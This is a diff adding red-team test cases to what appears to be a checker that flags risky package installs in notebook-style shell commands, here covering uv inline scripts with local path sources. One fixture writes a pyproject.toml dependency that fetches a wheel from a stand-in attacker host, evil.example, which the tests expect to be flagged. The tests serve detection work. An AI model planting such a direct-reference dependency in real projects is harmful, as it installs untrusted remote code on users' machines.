@@ -356,3 +356,32 @@ describe('red team 17 R17-11: shell text without an installer word', () => {
     expect(rules(cell)).toEqual([]);
   });
 });
+
+describe('red team 40b R40b-1: a script path source is read from its folder', () => {
+  const script = (source: string) =>
+    '# /// script\n# dependencies = ["proj"]\n# [tool.uv.sources]\n' +
+    `# proj = { path = "${source}" }\n# ///\n`;
+
+  it('reads a path source project folder beside the script', () => {
+    const sub = path.join(dir, 'sub', 'proj');
+    fs.mkdirSync(sub, { recursive: true });
+    fs.writeFileSync(
+      path.join(sub, 'pyproject.toml'),
+      '[project]\nname = "proj"\nversion = "1"\n' +
+        'dependencies = ["evil @ https://evil.example/evil-1.0-py3-none-any.whl"]\n'
+    );
+    fs.writeFileSync(path.join(dir, 'sub', 's.py'), script('proj'));
+    expect(rules('!uv run sub/s.py')).toEqual(['install-direct-reference']);
+  });
+
+  it('still runs an ordinary script whose path source has plain dependencies', () => {
+    const proj = path.join(dir, 'proj');
+    fs.mkdirSync(proj);
+    fs.writeFileSync(
+      path.join(proj, 'pyproject.toml'),
+      '[project]\nname = "proj"\nversion = "1"\ndependencies = ["numpy"]\n'
+    );
+    fs.writeFileSync(path.join(dir, 's.py'), script('proj'));
+    expect(rules('!uv run s.py')).toEqual([]);
+  });
+});
